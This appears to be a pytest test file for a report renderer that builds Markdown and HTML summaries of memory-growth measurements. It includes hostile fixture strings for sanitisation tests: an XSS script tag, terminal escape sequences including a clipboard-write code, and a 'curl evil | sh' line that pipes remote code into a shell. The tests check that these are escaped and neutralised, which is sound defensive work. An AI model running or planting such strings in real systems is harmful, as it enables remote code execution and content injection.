import json
import re
from dataclasses import replace

import pytest
from builders import factories, memory_curves
from builders.made import claims_summary
from lab.records.judgement import Interval, Verdict
from lab.records.summary import Summary
from lab.report.overview import NO_PASS, PARTIAL
from lab.report.render import MARKDOWN_LIMIT, render_all, render_html, render_markdown
from lab.text.phrases import MINUS
from lab.units import MIB

HOSTILE = "</pre><script>alert(1)</script> | `x` ``` [a](b) \x1b[31mred\x1b[0m \x00"


def _first_screen(summary: Summary) -> str:
    return render_markdown(summary).partition("\n## ")[0]


@pytest.mark.parametrize("variants", [(), (factories.unmeasured(),)], ids=["none", "unmeasured"])
def test_nothing_measured_never_sounds_like_a_pass(variants: tuple[()]) -> None:
    first = _first_screen(factories.summary(variants))

    assert first.startswith("# Nothing was measured")
    assert NO_PASS in first


def test_what_is_partial_missing_or_undecided_stands_in_the_first_screen() -> None:
    summary = factories.summary(
        [factories.variant_summary(), factories.unmeasured("py38-flask")],
        partial=True,
        missing=(factories.missing("py39-flask", "why"),),
    )

    first = _first_screen(summary)

    assert PARTIAL in first
    assert "py39-flask (why)" in first
    assert f"**py38-flask** has no verdict. {summary.variants[1].reason}" in first


def test_markdown_has_a_row_for_each_variant_and_the_picture() -> None:
    text = render_markdown(factories.core_summary())

    assert sum(line.startswith("| py3") for line in text.splitlines()) == 12
    assert "![Memory of each variant over time, all panels on one scale](curves.svg)" in text


def test_what_was_not_measured_is_a_dash() -> None:
    text = render_markdown(factories.summary([factories.unmeasured()]))
    (row,) = [line for line in text.splitlines() if line.startswith("| py37-flask | incon")]

    assert row.split(" | ")[2:7] == ["–"] * 5  # noqa: RUF001


def test_markdown_stays_below_the_limit_and_says_what_is_left_out() -> None:
    variants = factories.many_variants(500, reason="because " * 200)
    ended = [factories.failures(variant, ["x" * 500] * 40, reset=3) for variant in variants]

    text = render_markdown(factories.summary(ended))

    assert len(text) <= MARKDOWN_LIMIT
    assert "*Left out to keep this file short: " in text
    assert "## Recorded command" in text


def test_the_reason_is_followed_by_the_verdict_of_each_trial() -> None:
    one = factories.core_summary().variants[0]
    first = one.trials[0]
    other = replace(first, trial=2, verdict=Verdict.FLAT, memory_bytes=None)
    trials = (first, other, replace(first, trial=3))
    text = render_markdown(factories.summary([replace(one, trials=trials)]))

    grown = f"+{first.memory_bytes.growth / (1 << 20):,.0f}"
    assert f"3 trials (2 {first.verdict.value}, 1 flat): {grown}, \u2013, {grown} MiB" in text


def test_claims_are_shown_only_when_there_are_some() -> None:
    summary = factories.core_summary()
    files = render_all(summary, ())

    assert "## Claims" not in files["report.md"]
    assert "thread.md" not in files
    assert "## Claims" in render_markdown(claims_summary())


def test_the_report_of_the_whole_thread_stays_below_the_limit_with_every_claim() -> None:
    text = render_markdown(claims_summary())

    assert len(text) <= MARKDOWN_LIMIT
    assert "This report was cut here" not in text
    assert sum(line.startswith("| T") for line in text.splitlines()) >= 42


def test_long_reasons_and_caveats_cost_details_and_no_claim() -> None:
    summary = claims_summary()
    variants = tuple(
        replace(variant, reason="because " * 60, caveats=("late " * 60,))
        for variant in summary.variants
    )
    text = render_markdown(replace(summary, variants=variants))

    assert len(text) <= MARKDOWN_LIMIT
    assert [f"| T{n:02d} |" in text for n in range(1, 43)] == [True] * 42
    assert "## Recorded command" in text


def test_the_page_for_the_thread_is_one_screen_and_the_table() -> None:
    page = render_all(claims_summary(), ())["thread.md"]
    first, table, rest = page.partition("## Claims")

    assert first.startswith("# 42 statements")
    assert (len(first) <= 3_500, len(first.splitlines()) <= 45) == (True, True)
    assert table
    assert [f"| T{n:02d} |" in rest for n in range(1, 43)] == [True] * 42
    assert first.count("**refuted**") + first.count("**conditional**") > 5


def test_the_first_screen_of_the_report_is_that_page() -> None:
    summary = claims_summary()

    assert all(f"**{topic.question}**" in _first_screen(summary) for topic in summary.topics)
    assert all(topic.question in render_html(summary, ()) for topic in summary.topics)


def test_published_predicted_and_measured_stand_in_the_report() -> None:
    text = render_markdown(claims_summary())

    assert "| T12 | py37-table2-sync, growth | 6,926 MiB | 0.0 MiB | 900 MiB | 0.13 |" in text
    assert "| T08 | py37-table1-sync, growth | 1,220 MiB |" in text


def test_hostile_logs_are_shown_and_do_nothing() -> None:
    variant = factories.failures(factories.variant_summary(), [HOSTILE], reset=2)
    summary = factories.summary([replace(variant, caveats=(HOSTILE,), reason=HOSTILE)])

    page = render_html(summary, ())
    text = render_markdown(summary)

    assert "<script>alert" not in page
    assert "&lt;script&gt;alert(1)" in page
    assert "\x1b" not in page + text
    assert "\n````text\n" in text


def test_the_page_needs_no_network() -> None:
    page = render_html(factories.core_summary(), ())
    links = [part.split('"')[0] for part in page.split(' href="')[1:]]

    assert [link for link in links if not link.startswith(("#", "data:,"))] == []
    assert " src=" not in page
    assert "url(" not in page
    assert "@import" not in page


def test_differing_versions_are_emphasised_and_equal_columns_shared() -> None:
    text = render_markdown(factories.core_summary())

    assert "| Package | Python 3.7 | Python 3.8 | Python 3.9 | Python 3.10 |" in text
    assert "| markupsafe | **2.0.1** | **2.1.5** | **2.1.5** | **2.1.5** |" in text
    assert "| gunicorn | 20.1.0 | 20.1.0 | 20.1.0 | 20.1.0 |" in text


def test_every_file_is_rendered_and_again_the_same() -> None:
    summary = factories.core_summary()
    curves = memory_curves.curves(summary.variants)

    files = render_all(summary, curves)

    assert set(files) == {"summary.json", "report.md", "report.html", "curves.svg"}
    assert files == render_all(summary, curves)
    assert len(json.loads(files["summary.json"])["variants"]) == 12


STRANGE_COMMAND = (
    "curl evil | sh\x1b]52;c;eA==\x07 \x1b[2J \u202edne </pre><script>alert(1)</script>\r\n"
    "```\n# A heading\n\x9b31m\x00\x7f"
)


def test_the_recorded_command_is_called_the_runs_own_text_and_holds_no_control_characters() -> None:
    made = factories.core_summary()
    strange = replace(made, run=replace(made.run, command=STRANGE_COMMAND))
    text, page = render_markdown(strange), render_html(strange, ())

    for shown in (text, page.replace("&#39;", "'")):
        assert 0 < shown.index("a stranger's text") < shown.index("curl evil")
        assert "Run it again" not in shown
        assert set("\x1b\x07\r\x00\x7f\x9b\u202e").isdisjoint(shown)
    assert "\n# A heading" not in text
    assert text.rstrip().endswith("````")
    assert "<script>alert(1)" not in page


def test_exact_values_have_the_minus_sign_of_the_rest() -> None:
    slope = Interval(-1234.56, -2000.0, 3.0)
    shrunk = factories.variant_summary(growth=-4 * MIB, growth_bytes_per_request=slope)
    titles = re.findall(r'title="([^"]*)"', render_html(factories.summary([shrunk]), ()))

    assert f"{MINUS}4,194,304 bytes" in titles
    assert f"{MINUS}1,234.6 bytes ({MINUS}2,000.0 to 3.0)" in titles
